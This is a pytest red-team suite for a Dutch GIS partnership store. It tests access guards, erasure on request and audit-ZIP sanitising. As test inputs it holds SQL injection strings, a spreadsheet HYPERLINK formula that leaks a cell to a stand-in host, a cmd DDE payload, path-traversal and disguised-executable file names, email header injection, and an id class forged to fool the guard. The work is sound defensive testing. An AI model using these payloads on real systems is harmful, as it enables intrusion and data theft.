"""Red-team attacks on the partnership store (issue 21) through the guarded store, as a partner with a limited
role who scripts requests and forges their arguments: other areas' row ids, ids that say one thing to the guard
and another to the store, hostile text and files, erasure on request, the public Keurmerk list, the audit ZIP.
A test that fails here names a hole; one that passes stays as a regression test."""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
import shapely
from docx import Document

from gis.demo.seed import load_boundaries
from gis.domain.catalog import Layer
from gis.domain.roles import PermissionDenied, Principal, Role
from gis.io.csv_export import _FORMULA_START
from gis.partnership.audit_file import audit_zip
from gis.reports.covenant import declaration_docx
from gis.store import Store, StoreError, open_store
from gis.store.copy import copy_database
from gis.store.copy_rules import SKIP, copy_principal, role_plan
from gis.store.dumpings import StoredFile
from gis.store.guard import GuardedStore
from gis.store.schema_a2 import A2_TABLES
from tests.partnership.build import PAST, TODAY, USER, build, sign, stored, to_b4

HOME, AWAY = "GM1859", "GM0363"  # Berkelland (the built areas) and Amsterdam (the attacker's own area)
MB = 1024 * 1024


def _as(store: Store, role: Role, scope: str = "*") -> GuardedStore:
    return GuardedStore(store, Principal(f"rt-{role.value}", role, frozenset({scope})))


def _outcome(call: Callable[[], object]) -> str:
    """'denied', 'refused' (StoreError), 'ok', or the name of any other exception (a crash)."""
    try:
        call()
    except PermissionDenied:
        return "denied"
    except StoreError:
        return "refused"
    except Exception as err:  # every other exception is a finding
        return type(err).__name__
    return "ok"


def _certified(db: Store, name: str) -> tuple[int, dict[str, int]]:
    """An area with every step up to the covenant, and a granted audit (the evidence step is left out)."""
    area, parts = build(db, "covenant", name=name)
    to_b4(db, area)
    return area, parts


def _docx_text(data: bytes) -> str:
    doc = Document(io.BytesIO(data))
    cells = [c.text for t in doc.tables for r in t.rows for c in r.cells]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    store = open_store(str(tmp_path_factory.mktemp("redteam") / "rt.duckdb"))
    load_boundaries(store)
    yield store
    store.close()


@pytest.fixture(scope="module")
def noord(db: Store) -> dict[str, int]:
    """The victim: a certified area in Berkelland with a representative, a meeting, an action item, a file,
    an obligation and an agreement; and the attacker's own area in Amsterdam with its own rows."""
    area, parts = _certified(db, name="Noord")
    ids = {"area": area, "participant": parts["gemeente"]}
    ids["rep"] = db.save_representative(parts["gemeente"], {"name": "Jan de Vries", "email": "jan@berkelland.nl",
                                                            "phone": "0612345678"}, USER)  # fmt: skip
    ids["meeting"] = db.save_meeting(area, {"held_on": PAST, "title": "Stuurgroep", "minutes": "Plan"}, USER)
    ids["item"] = db.save_action_item(ids["meeting"], {"text": "Slagboom", "owner": "gemeente"}, USER)
    ids["file"] = db.add_partnership_file(area, stored("scan.pdf", b"%PDF geheim"), USER)
    ids["obligation"] = db.save_obligation(area, parts["politie"], "Extra surveillance", USER)
    ids["agreement"] = int(db.agreements(area)["id"].iloc[0])
    away = db.add_area("Eigen", shapely.box(120_000, 486_000, 121_000, 487_000), created_by=USER)
    ids["away"] = away
    ids["away_participant"] = db.save_participant(away, {"organisation": "Gemeente A", "kind": "gemeente"}, USER)
    ids["away_rep"] = db.save_representative(ids["away_participant"], {"name": "Eigen Persoon"}, USER)
    ids["away_file"] = db.add_partnership_file(away, stored("eigen.pdf", b"%PDF eigen"), USER)
    return ids


def _victim_rows(db: Store, area: int) -> str:
    """Everything of the victim area, to compare before and after an attack."""
    parts = [db.participants(area), db.representatives(area), db.signatures(area), db.agreements(area),
             db.meetings(area), db.action_items(area), db.partnership_files(area), db.obligations(area),
             db.evaluations(area), db.audits(area), db.keurmerk_applications(area)]  # fmt: skip
    return "\n".join(p.to_csv(index=False) for p in parts)


# -- ids of another area ----------------------------------------------------------------------------------------
def _cross_calls(g: GuardedStore, n: dict[str, int]) -> dict[str, Callable[[], object]]:
    """Every partnership call of a scoped role (own area ``away``) that names the victim's area or rows."""
    area, away, f = n["area"], n["away"], stored("x.pdf", b"%PDF x")
    return {
        "participants": lambda: g.participants(area), "representatives": lambda: g.representatives(area),
        "signatures": lambda: g.signatures(area), "meetings": lambda: g.meetings(area),
        "action_items": lambda: g.action_items(area), "files": lambda: g.partnership_files(area),
        "file": lambda: g.partnership_file(n["file"]), "obligations": lambda: g.obligations(area),
        "audits": lambda: g.audits(area), "audits_all": lambda: g.audits(),
        "applications": lambda: g.keurmerk_applications(area),
        "upd_participant": lambda: g.save_participant(away, {"organisation": "X", "kind": "overig"}, "x",
                                                      participant_id=n["participant"]),
        "remove": lambda: g.remove_participant(n["participant"], "x", "weg"),
        "add_rep": lambda: g.save_representative(n["participant"], {"name": "Indringer"}, "x"),
        "upd_rep": lambda: g.save_representative(n["away_participant"], {"name": "X"}, "x", n["rep"]),
        "erase": lambda: g.erase_representative(n["rep"], "x"),
        "sign": lambda: g.record_signature(away, "convenant", n["participant"], PAST, "x"),
        "agreement": lambda: g.save_agreement(away, {"kind": "doel", "text": "t"}, "x", n["agreement"]),
        "del_agreement": lambda: g.delete_agreement(n["agreement"], "x"),
        "meeting": lambda: g.save_meeting(away, {"held_on": PAST, "title": "t"}, "x", n["meeting"]),
        "item": lambda: g.save_action_item(n["meeting"], {"text": "t", "owner": "o"}, "x", n["item"]),
        "file_to_meeting": lambda: g.add_partnership_file(away, f, "x", meeting_id=n["meeting"]),
        "obligation": lambda: g.save_obligation(away, n["participant"], "t", "x"),
        "del_obligation": lambda: g.delete_obligation(n["obligation"], "x"),
        "evaluation": lambda: g.save_evaluation(area, PAST, "t", "x"),
        "audit": lambda: g.record_audit(area, PAST, "afgewezen", "", "x"),
        "apply": lambda: g.apply_keurmerk(area, "x", "a" * 64),
    }  # fmt: skip


def test_every_id_of_another_area_is_refused_for_scoped_roles(db: Store, noord: dict[str, int]) -> None:
    n, area = noord, noord["area"]
    before = _victim_rows(db, area)
    for role in (Role.WORKGROUP, Role.COORDINATOR, Role.INSPECTOR, Role.ANALYST):
        g = _as(db, role, AWAY)
        calls = _cross_calls(g, n)
        got = {name: _outcome(call) for name, call in calls.items()}
        assert {k: v for k, v in got.items() if v not in ("denied", "refused")} == {}, role
    assert _victim_rows(db, area) == before


class _TwoFaced(int):
    """An id that reads as ``inside`` to everyone but the store's own checks (``partnership_checks.whole``)."""

    other: int

    def __new__(cls, inside: int, other: int) -> _TwoFaced:
        obj = int.__new__(cls, inside)
        obj.other = other
        return obj

    def __int__(self) -> int:
        caller = sys._getframe(1).f_code.co_filename
        return self.other if caller.endswith("partnership_checks.py") else int.__index__(self)

    def __eq__(self, other: object) -> bool:
        return True

    def __ne__(self, other: object) -> bool:
        return False

    __hash__ = int.__hash__


def test_an_id_cannot_say_one_thing_to_the_guard_and_another_to_the_store(db: Store, noord: dict[str, int]) -> None:
    mine = _as(db, Role.WORKGROUP, AWAY)
    leaked = _outcome(lambda: mine.representatives(_TwoFaced(noord["away"], noord["area"])))
    if leaked == "ok":
        got = mine.representatives(_TwoFaced(noord["away"], noord["area"]))
        assert "jan@berkelland.nl" not in got["email"].tolist(), "contacts of another area read through a forged id"
    file_read = _outcome(lambda: mine.partnership_file(_TwoFaced(noord["away_file"], noord["file"])))
    if file_read == "ok":
        secret = db.partnership_file(noord["file"])[2]  # the victim's bytes (a real PDF since the store's checks)
        assert mine.partnership_file(_TwoFaced(noord["away_file"], noord["file"]))[2] != secret


def test_a_neighbours_scope_does_not_reach_an_area_drawn_along_the_border(db: Store) -> None:
    munis = db.municipalities().set_index("code")
    home, neighbour = munis.geometry.loc[HOME], munis.geometry.loc["GM1876"]  # Berkelland, Bronckhorst
    border = home.intersection(neighbour)
    inside = home.intersection(border.representative_point().buffer(1500))  # in Berkelland, edge on the border
    assert inside.intersection(neighbour).area < 1.0  # not one square metre in Bronckhorst
    area = db.add_area("Langs de grens", inside, created_by=USER)
    pid = db.save_participant(area, {"organisation": "Gemeente Berkelland", "kind": "gemeente"}, USER)
    db.save_representative(pid, {"name": "Grens Persoon", "email": "grens@berkelland.nl"}, USER)
    assert _outcome(lambda: _as(db, Role.WORKGROUP, HOME).representatives(area)) == "ok"
    assert _outcome(lambda: _as(db, Role.WORKGROUP, "GM1876").representatives(area)) == "denied"


def test_an_agreement_cannot_point_at_another_areas_objective(db: Store, noord: dict[str, int]) -> None:
    theirs = int(db.objectives(noord["area"])["id"].iloc[0])
    coordinator = _as(db, Role.COORDINATOR, AWAY)
    got = _outcome(lambda: coordinator.save_agreement(noord["away"], {"kind": "doel", "text": "t",
                                                                      "objective_id": theirs}, "x"))  # fmt: skip
    assert got in ("denied", "refused")
    assert theirs not in db.agreements(noord["away"])["objective_id"].dropna().astype(int).tolist()


# -- rights -----------------------------------------------------------------------------------------------------
WRITERS = {
    Role.ADMIN: {"partnership", "contacts", "audit", "apply"},
    Role.COORDINATOR: {"partnership", "contacts", "apply"},
    Role.AUDITOR: {"audit"},
}


def test_no_write_without_the_right(db: Store) -> None:
    area, parts = build(db, "A2", name="Rechten")
    pid = parts["gemeente"]
    rep = db.save_representative(pid, {"name": "R"}, USER)
    meeting = db.save_meeting(area, {"held_on": PAST, "title": "m"}, USER)
    writes = {
        "partnership": [lambda g: g.save_participant(area, {"organisation": "Z", "kind": "overig"}, "x"),
                        lambda g: g.save_meeting(area, {"held_on": PAST, "title": "n"}, "x"),
                        lambda g: g.save_action_item(meeting, {"text": "t", "owner": "o"}, "x"),
                        lambda g: g.save_agreement(area, {"kind": "intern", "text": "t"}, "x"),
                        lambda g: g.add_partnership_file(area, stored("a.pdf", b"%PDF"), "x"),
                        lambda g: g.save_obligation(area, pid, "t", "x"),
                        lambda g: g.save_evaluation(area, PAST, "t", "x"),
                        lambda g: g.record_signature(area, "intentieverklaring", pid, TODAY, "x")],
        "contacts": [lambda g: g.save_representative(pid, {"name": "N"}, "x"),
                     lambda g: g.save_representative(pid, {"name": "N2"}, "x", rep)],
        "audit": [lambda g: g.record_audit(area, PAST, "afgewezen", "", "x")],
        "apply": [lambda g: g.apply_keurmerk(area, "x", "b" * 64)],
    }  # fmt: skip
    for role in Role:
        g = _as(db, role)
        for kind, calls in writes.items():
            for call in calls:
                want = "denied" if kind not in WRITERS.get(role, set()) else "ok"
                got = _outcome(lambda call=call, g=g: call(g))
                assert (got == "denied") == (want == "denied"), (role, kind, got)
    for role in Role:
        if role not in (Role.ADMIN, Role.COORDINATOR):
            assert _outcome(lambda role=role: _as(db, role).erase_representative(rep, "x")) == "denied", role
    assert db.representatives(area).set_index("id").loc[rep, "name"] == "N2"


def test_the_public_calls_nothing_but_the_keurmerk_list(db: Store, noord: dict[str, int]) -> None:
    public = _as(db, Role.PUBLIC)
    for name in ("participants", "representatives", "signatures", "meetings", "partnership_files", "audits",
                 "keurmerk_applications", "evaluations", "obligations", "agreements", "action_items"):  # fmt: skip
        assert _outcome(lambda name=name: getattr(public, name)(noord["area"])) == "denied", name
    for name in ("query_df", "audit", "transaction", "__dict__", "partnership_file"):
        assert _outcome(lambda name=name: getattr(public, name)(noord["file"])) in ("denied", "AttributeError")
    assert _outcome(lambda: public._call("representatives", (noord["area"],), {})) == "denied"  # the slot: checked
    assert _outcome(lambda: public.aggregate_source(Layer.INCIDENTS).areas()) == "ok"  # geography only
    assert _outcome(lambda: public.aggregate_source(Layer.INCIDENTS).representatives(noord["area"])) == "denied"
    assert _outcome(lambda: public.unguarded("view", "contacts")) == "denied"
    listed = public.keurmerk_overview()
    assert list(listed.columns) == ["area_id", "area_name", "municipalities", "granted_on", "expires_on"]


def test_the_public_list_leaves_out_an_area_whose_latest_audit_refused_it(db: Store) -> None:
    area, _ = build(db, "A2", name="Teruggetrokken")
    db.record_audit(area, PAST - timedelta(days=300), "toegekend", "", "auditor")
    db.record_audit(area, PAST, "afgewezen", "Convenant niet nageleefd", "auditor")
    assert area not in _as(db, Role.PUBLIC).keurmerk_overview()["area_id"].tolist()


def test_the_public_list_leaves_out_an_expired_keurmerk(db: Store) -> None:
    area, _ = build(db, "A2", name="Verlopen")
    db.record_audit(area, TODAY - timedelta(days=3 * 366 + 30), "toegekend", "", "auditor")
    listed = _as(db, Role.PUBLIC).keurmerk_overview()
    assert area not in listed["area_id"].tolist(), "an expired Keurmerk is shown to the public as a holder"


# -- erasure on request ---------------------------------------------------------------------------------------
SECRET = ("Piet Geheimhouder", "piet.geheim@lto.nl", "06-98765432")


def test_after_erasure_the_table_and_the_guards_log_hold_nothing_of_the_person(db: Store) -> None:
    _, parts = build(db, "A2", name="Wissen")
    coordinator = _as(db, Role.COORDINATOR, HOME)
    name, email, phone = SECRET
    rep = coordinator.save_representative(parts["lto"], {"name": name, "email": email, "phone": phone}, "x")
    coordinator.save_representative(parts["lto"], {"name": name, "email": email, "phone": phone,
                                                    "role_title": "voorzitter"}, "x", rep)  # fmt: skip
    _outcome(lambda: _as(db, Role.WORKGROUP, HOME).save_representative(parts["lto"], {"name": name}, "x"))
    _outcome(lambda: coordinator.save_representative(parts["lto"], {"name": name, "email": "geen-adres"}, "x"))
    coordinator.erase_representative(rep, "x")
    row = db.query_df("SELECT * FROM representatives WHERE id = ?", [rep]).to_csv(index=False)
    log = db.audit_log().to_csv(index=False)
    for secret in SECRET:
        assert secret not in row and secret not in log, secret
    assert _outcome(lambda: coordinator.erase_representative(rep, "x")) == "refused"  # not twice


def test_after_erasure_the_role_title_is_gone_too(db: Store) -> None:
    area, parts = build(db, "A2", name="Wissen functie")
    rep = db.save_representative(parts["gemeente"], {"name": "Burgemeester X", "role_title": "burgemeester van "
                                                     "Berkelland"}, USER)  # fmt: skip
    _as(db, Role.COORDINATOR, HOME).erase_representative(rep, "x")
    left = db.representatives(area).set_index("id").loc[rep]
    assert pd.isna(left["role_title"]) or left["role_title"] == "", "the function names the person"


def test_after_erasure_the_person_is_not_left_as_signatory(db: Store) -> None:
    area, parts = build(db, "A2", name="Wissen ondertekenaar")
    coordinator = _as(db, Role.COORDINATOR, HOME)
    rep = coordinator.save_representative(parts["lto"], {"name": SECRET[0], "email": SECRET[1]}, "x")
    coordinator.record_signature(area, "intentieverklaring", parts["lto"], PAST, "x", signatory=SECRET[0])
    coordinator.erase_representative(rep, "x")
    assert SECRET[0] not in coordinator.signatures(area).to_csv(index=False), "signatures table"
    assert SECRET[0] not in _docx_text(declaration_docx(coordinator, area)), "declaration DOCX"


def test_after_erasure_the_database_file_holds_nothing_of_the_person(tmp_path: Path) -> None:
    path = tmp_path / "residue.duckdb"
    store = open_store(str(path))
    try:
        _, parts = build(store, "A2", name="Rest")
        rep = store.save_representative(parts["lto"], {"name": SECRET[0], "email": SECRET[1]}, USER)
        store.close()  # written to disk, as a day's work is
        store = open_store(str(path))
        store.erase_representative(rep, USER)
        wal = tmp_path / "residue.duckdb.wal"
        assert not wal.exists() or wal.stat().st_size == 0, "the erasure is checkpointed into the file at once"
    finally:
        store.close()
    # DuckDB (1.5) does not zero the old bytes inside its blocks: they stay in residue.duckdb until overwritten
    # (README: "Wissen op verzoek"); what is achievable is a compacted copy that holds nothing of the person.
    copy_database(str(path), str(tmp_path / "schoon.duckdb"), say=lambda _: None)
    residue = [f.name for f in tmp_path.glob("schoon.duckdb*") if SECRET[1].encode() in f.read_bytes()]
    assert residue == [], "the erased e-mail address can still be read from the compacted database file"


def test_a_copy_for_any_role_holds_no_partnership_table(db: Store) -> None:
    for role in Role:
        p = copy_principal(role.value)
        for table in A2_TABLES:
            assert role_plan(p, table) == SKIP, (role, table)


# -- hostile input ------------------------------------------------------------------------------------------------
HUGE = "A" * MB


def test_hostile_text_is_refused_in_dutch_and_nothing_is_written(db: Store, noord: dict[str, int]) -> None:
    area, pid, meeting = noord["area"], noord["participant"], noord["meeting"]
    c = _as(db, Role.COORDINATOR, HOME)
    before = _victim_rows(db, area)
    attacks = {
        "org 1MB": lambda: c.save_participant(area, {"organisation": HUGE, "kind": "overig"}, "x"),
        "org NUL": lambda: c.save_participant(area, {"organisation": "a\x00b", "kind": "overig"}, "x"),
        "org surrogate": lambda: c.save_participant(area, {"organisation": "a\ud800", "kind": "overig"}, "x"),
        "kind": lambda: c.save_participant(area, {"organisation": "ok", "kind": "<script>"}, "x"),
        "record list": lambda: c.save_participant(area, ["organisation"], "x"),
        "rep 1MB": lambda: c.save_representative(pid, {"name": HUGE}, "x"),
        "rep email": lambda: c.save_representative(pid, {"name": "a", "email": "a@b.nl\r\nBcc: x@y.nl"}, "x"),
        "minutes 1MB": lambda: c.save_meeting(area, {"held_on": PAST, "title": "t", "minutes": HUGE}, "x"),
        "meeting date": lambda: c.save_meeting(area, {"held_on": "0001-01-01", "title": "t"}, "x"),
        "item ESC": lambda: c.save_action_item(meeting, {"text": "\x1b[31m", "owner": "o"}, "x"),
        "evaluation future": lambda: c.save_evaluation(area, TODAY + timedelta(days=1), "t", "x"),
        "signature future": lambda: c.record_signature(area, "convenant", pid, TODAY + timedelta(days=1), "x"),
        "obligation 1MB": lambda: c.save_obligation(area, pid, HUGE, "x"),
        "sha": lambda: c.apply_keurmerk(area, "x", "'; DROP TABLE audits; --"),
        "file name NUL": lambda: c.add_partnership_file(area, stored("a\x00.pdf", b"%PDF"), "x"),
        "file name 1MB": lambda: c.add_partnership_file(area, stored(HUGE, b"%PDF"), "x"),
        "file not a file": lambda: c.add_partnership_file(area, "bytes", "x"),
    }
    for bad in (-1, 0, 2**31, 10**40, True, float("nan"), "1 OR 1=1", None, [1], {"id": 1}):
        attacks[f"area {bad!r}"] = lambda bad=bad: c.meetings(bad)
        attacks[f"file {bad!r}"] = lambda bad=bad: c.partnership_file(bad)
        attacks[f"rep {bad!r}"] = lambda bad=bad: c.erase_representative(bad, "x")
    got = {name: _outcome(call) for name, call in attacks.items()}
    assert {k: v for k, v in got.items() if v not in ("denied", "refused")} == {}
    assert _victim_rows(db, area) == before


def test_a_forged_file_kind_is_checked_like_every_other_field(db: Store, noord: dict[str, int]) -> None:
    c = _as(db, Role.COORDINATOR, HOME)
    for kind in ("k" * MB, "a\x00b"):
        forged = StoredFile(kind, "a.pdf", "application/pdf", b"%PDF", "s")
        assert _outcome(lambda forged=forged: c.add_partnership_file(noord["area"], forged, "x")) == "refused"


def test_forged_uploads_keep_the_attachment_caps(db: Store, noord: dict[str, int]) -> None:
    c = _as(db, Role.COORDINATOR, HOME)
    jpeg = b"\xff\xd8\xff\xe1" + b"Exif\x00\x00GPS 52.1 6.5" + b"\x00" * 64
    cases = {
        "26 MB": StoredFile("bestand", "groot.pdf", "application/pdf", b"%PDF" + b"0" * (26 * MB), "s"),
        "21 MB (over attachments.MAX_BYTES)": StoredFile("bestand", "b.pdf", "application/pdf",
                                                         b"%PDF" + b"0" * (21 * MB), "s"),
        "photo without its EXIF-free copy": StoredFile("foto", "erf.jpg", "image/jpeg", jpeg, "s"),
        "an executable called a PDF": StoredFile("bestand", "notulen.pdf.exe", "application/pdf",
                                                 b"MZ\x90\x00" + b"\x00" * 64, "s"),
    }  # fmt: skip
    accepted = [k for k, f in cases.items() if _outcome(lambda f=f: c.add_partnership_file(noord["area"], f, "x"))
                == "ok"]  # fmt: skip
    assert accepted == []


def test_the_auditors_audit_zip_neutralises_formulas_keeps_names_in_folders_and_releases_counts(db: Store) -> None:
    area, parts = build(db, "A2", name="Formules")
    sign(db, area, {k: parts[k] for k in ("gemeente", "politie")}, "convenant")
    db.save_participant(area, {"organisation": '=HYPERLINK("http://x.example/?"&A1,"klik")', "kind": "overig"}, USER)
    db.save_participant(area, {"organisation": "-2+3", "kind": "overig"}, USER)
    db.save_evaluation(area, PAST, "@SUM(1+1)*cmd|' /C calc'!A0", USER)
    meeting = db.save_meeting(area, {"held_on": PAST, "title": "<script>alert(1)</script>", "minutes": "m"}, USER)
    for name in ("../../../etc/cron.d/x.pdf", "C:\\Windows\\x.pdf", "..", "\u202egnp.exe"):
        db.add_partnership_file(area, stored(name, b"%PDF"), USER, meeting_id=meeting, topic="convenant")
    db.save_representative(parts["lto"], {"name": SECRET[0], "email": SECRET[1], "phone": SECRET[2]}, USER)
    frame = pd.DataFrame(
        {
            "x": [231_500.0, 231_600.0, 231_700.0],
            "y": [451_500.0] * 3,
            "occurred_on": [PAST] * 3,
            "category": ["drugslab"] * 3,
            "source_org": ["politie"] * 3,
        }
    )
    db.insert_points(Layer.INCIDENTS, frame)  # three incidents: the auditor may only read "<5"
    archive = zipfile.ZipFile(io.BytesIO(audit_zip(_as(db, Role.AUDITOR), area)))
    for entry in archive.namelist():
        assert ".." not in entry.split("/") and "\\" not in entry and ":" not in entry and entry.count("/") <= 1
        assert "\u202e" not in entry, entry
        data = archive.read(entry)
        assert not any(secret.encode() in data for secret in SECRET), entry
        if entry.endswith(".csv"):
            rows = csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";")
            for cell in (cell for row in rows for cell in row):
                assert not cell.startswith(_FORMULA_START), (entry, cell)
    assert "'=HYPERLINK" in archive.read("02_deelnemers/deelnemers.csv").decode("utf-8-sig")
    index = archive.read("index.json").decode()
    # released counts carry cell-key noise (the key's salt is the database's own secret), so three incidents show as
    # "<5" or as a perturbed count of at least 5; never as the small exact count
    shown = re.search(r"(<5|\d+) incident\(en\)", index)
    assert shown is not None, index
    assert shown.group(1) == "<5" or int(shown.group(1)) >= 5, shown.group(0)
    figures = archive.read("06_incidenten/incidentcijfers.csv").decode("utf-8-sig").splitlines()
    assert [line for line in figures if "ncident" in line] and not any(";3;" in line for line in figures), figures


def test_the_store_files_are_written_whole_or_not_at_all_on_postgis(tmp_path: Path, pg_url: str) -> None:
    store = open_store(pg_url)
    try:
        load_boundaries(store)
        area, parts = build(store, "A2", name="PG")
        c = _as(store, Role.COORDINATOR, HOME)
        bad = {
            "NUL kind": lambda: c.add_partnership_file(area, StoredFile("a\x00", "a.pdf", "application/pdf",
                                                                        b"%PDF", "s"), "x"),
            "NUL name": lambda: c.save_representative(parts["lto"], {"name": "a\x00b"}, "x"),
            "huge": lambda: c.save_meeting(area, {"held_on": PAST, "title": "t", "minutes": HUGE}, "x"),
        }  # fmt: skip
        got = {k: _outcome(v) for k, v in bad.items()}
        assert {k: v for k, v in got.items() if v not in ("denied", "refused")} == {}
        assert store.partnership_files(area).empty and store.meetings(area).empty
    finally:
        store.close()
